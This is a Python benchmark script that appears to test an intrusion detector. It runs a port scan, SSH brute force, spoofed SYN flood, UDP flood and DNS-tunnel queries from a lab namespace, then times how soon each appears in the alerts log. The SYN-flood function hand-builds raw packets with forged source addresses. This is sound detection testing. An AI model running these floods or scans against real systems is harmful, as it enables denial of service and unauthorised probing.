#!/usr/bin/env python3
"""From an attack's start to its episode's first line in a live capture's alerts log.

Run in the attackers' namespace by `bench/capture.sh attack N`: N attacks, each from its own
source address (ATTACKER_PREFIX + 11, + 12, …, configured on the attackers' interface), in turn:

- a vertical port scan of VICTIM (60 closed ports; connections refused: its flows end);
- an SSH brute force (15 short logins against VICTIM's listener on port 22; flows end);
- a spoofed SYN flood (1,500 half-open attempts from 198.51.x.y in 1.5 s) against its own
  victim address (VICTIM_PREFIX + 150, + 151, …: a flood names no attacker, so each needs its
  own victim to be told apart); nothing answers, so no flow of it ends before the idle timeout;
- a UDP flood (12,000 datagrams from one socket to a closed port of its own victim address,
  as fast as Python sends): one flow that grows and never ends;
- a DNS tunnel (60 TXT queries of long random names, a new socket each, nothing answers).

While the attack runs (in a thread), the alerts file is polled every 2 ms for the first line
naming the attacker (the victim, for the SYN flood); its latency is that moment minus the
attack's start.
"""
import json
import os
import random
import socket
import string
import struct
import sys
import threading
import time

alerts, n, victim, prefix = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]


def scan(src, _):
    for port in range(3000, 3060):
        s = socket.socket()
        s.bind((src, 0))
        s.settimeout(1)
        try:
            s.connect((victim, port))
        except OSError:
            pass
        s.close()


def brute(src, _):
    for _ in range(15):
        s = socket.socket()
        s.bind((src, 0))
        s.settimeout(2)
        s.connect((victim, 22))
        s.recv(64)
        s.sendall(b"SSH-2.0-bench\r\n" + b"p" * 40)
        s.recv(64)
        s.close()


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def syn_flood(_, target):
    d = socket.inet_aton(target)
    for i in range(1500):
        src = socket.inet_aton("198.51.%d.%d" % (100 + i // 250, i % 250 + 1))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i, 0, 64, 6, 0, src, d)
        tcp = struct.pack("!HHIIBBHHH", 10000 + i, 8081, i, 0, 5 << 4, 0x02, 64240, 0, 0)
        c = csum(src + d + struct.pack("!BBH", 0, 6, 20) + tcp)
        raw.sendto(ip + tcp[:16] + struct.pack("!H", c) + tcp[18:], (target, 0))
        if i % 100 == 99:
            time.sleep(0.1)


def udp_flood(src, target):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    payload = b"u" * 64
    for _ in range(12000):
        try:
            s.sendto(payload, (target, 7001))
        except OSError:
            # The victim's port-unreachable answers surface as errors on the socket.
            pass


def dns_tunnel(src, _):
    alphabet = string.ascii_lowercase + string.digits
    for i in range(60):
        label = "".join(random.choice(alphabet) for _ in range(40))
        name = f"{label}.t{i % 10}.exfil.example.com"
        q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
        q += struct.pack("!HH", 16, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((src, 0))
        s.sendto(q, (victim, 53))
        s.close()
        time.sleep(0.01)


FAMILIES = [
    ("scan", scan),
    ("brute_force", brute),
    ("syn_flood", syn_flood),
    ("udp_flood", udp_flood),
    ("dns_tunnel", dns_tunnel),
]
victim_prefix = victim.rsplit(".", 1)[0] + "."

offset = 0
lat = {f: [] for f, _ in FAMILIES}
missing = {f: 0 for f, _ in FAMILIES}
seen = {}
kinds = {}
victims = 0
for i in range(n):
    src = f"{prefix}{11 + i}"
    family, attack = FAMILIES[i % len(FAMILIES)]
    target = victim
    key = ("src", src)
    if family in ("syn_flood", "udp_flood"):
        # A flood's episode is its victim's: each flood gets its own.
        target = f"{victim_prefix}{150 + victims}"
        victims += 1
    if family == "syn_flood":
        key = ("dst", target)
    t0 = time.time()
    # The log is watched while the attack runs: an episode may open before it is over.
    running = threading.Thread(target=attack, args=(src, target))
    running.start()
    found = None
    while found is None and time.time() - t0 < 10:
        with open(alerts, "rb") as f:
            f.seek(offset)
            chunk = f.read()
        # Whole lines only; a partial one is read again next time.
        end = chunk.rfind(b"\n") + 1
        offset += end
        now = time.time()
        for line in chunk[:end].splitlines():
            a = json.loads(line)
            seen.setdefault(("src", a["src"]), (now, a))
            seen.setdefault(("dst", a["dst"]), (now, a))
        found = seen.get(key)
        if found is None:
            time.sleep(0.002)
    running.join()
    if found is None:
        missing[family] += 1
    else:
        t1, a = found
        assert a["episode"]["state"] == "open" and a["episode"]["update"] == 0, a
        kinds.setdefault(family, set()).add(f'{a["detector"]} {a["kind"]}')
        lat[family].append(t1 - t0)
    # A random pause, so that attacks start at any phase of the capture's periodic work (the
    # view of open flows, the batches), not locked to it by the previous attack's detection.
    time.sleep(0.3 + random.random())


def q(v, f):
    return v[min(len(v) - 1, int(f * len(v)))]


everything = sorted(x for v in lat.values() for x in v)
for family, v in list(lat.items()) + [("all", everything)]:
    v.sort()
    if not v:
        print(f"{family}: no episode raised")
        continue
    miss = missing.get(family, sum(missing.values()))
    print(
        f"attack start -> episode in the alerts log ({family}): {len(v)} attacks "
        f"({miss} not within 10 s); p50 {q(v, 0.5) * 1000:.0f} ms, "
        f"p99 {q(v, 0.99) * 1000:.0f} ms, max {v[-1] * 1000:.0f} ms"
        + (f"; first line: {', '.join(sorted(kinds[family]))}" if family in kinds else "")
    )
